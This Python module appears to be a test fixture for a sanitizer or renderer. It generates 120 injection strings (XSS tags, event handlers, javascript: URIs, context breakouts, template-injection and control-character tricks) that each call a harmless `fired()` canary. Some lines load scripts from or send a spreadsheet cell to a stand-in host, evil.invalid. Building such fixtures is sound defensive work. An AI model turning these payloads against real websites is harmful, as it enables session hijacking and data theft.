"""Texts that try to become a script, a formula or a control sequence; each would call `fired` if it were ever run."""

from __future__ import annotations

CALLS = ("fired()", "top.fired()", "window['fired']()")
SHAPES = (
    "<script>{c}</script>",
    "<script src='https://evil.invalid/x.js'></script><script>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src='https://evil.invalid/p.png' onload='{c}'>",
    '"><script>{c}</script>',
    '\'><img src=x onerror="{c}">',
    "</title><script>{c}</script>",
    "</style><script>{c}</script>",
    "</script><script>{c}</script>",
    "</textarea><svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg/onload={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='javascript:parent.{c}'></iframe>",
    "<a href='javascript:{c}' autofocus onfocus={c}>x</a>",
    "<body onload={c}>",
    "<details open ontoggle={c}><summary>x</summary></details>",
    "<video><source onerror={c}></video>",
    "<input autofocus onfocus={c}>",
    "<marquee onstart={c}>x</marquee>",
    "<object data='javascript:{c}'></object>",
    "<embed src='javascript:{c}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href='https://evil.invalid/'><script>{c}</script>",
    "<link rel=stylesheet href='https://evil.invalid/x.css'><style>@import 'https://evil.invalid/y.css';</style>{c}",
    "<form action='javascript:{c}'><button autofocus>x</button></form>",
    "javascript:{c}",
    '" onmouseover="{c}" autofocus onfocus="{c}" x="',
    "' onfocus='{c}' autofocus='",
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}`;{c};//",
    "<!--><script>{c}</script>-->",
    "<![CDATA[<script>{c}</script>]]>",
    "\u202e<script>{c}</script>\x00\x1b[2J",
    "&lt;script&gt;{c}&lt;/script&gt;<script>{c}</script>",
    "<scr\x00ipt>{c}</scr\x00ipt><script>{c}</script>",
    '=HYPERLINK("https://evil.invalid?x="&A1)<script>{c}</script>',
    "]]>\"'><template><script>{c}</script></template><script>{c}</script>",
)
PAYLOADS = tuple(shape.format(c=call) for call in CALLS for shape in SHAPES)
assert len(set(PAYLOADS)) == 120
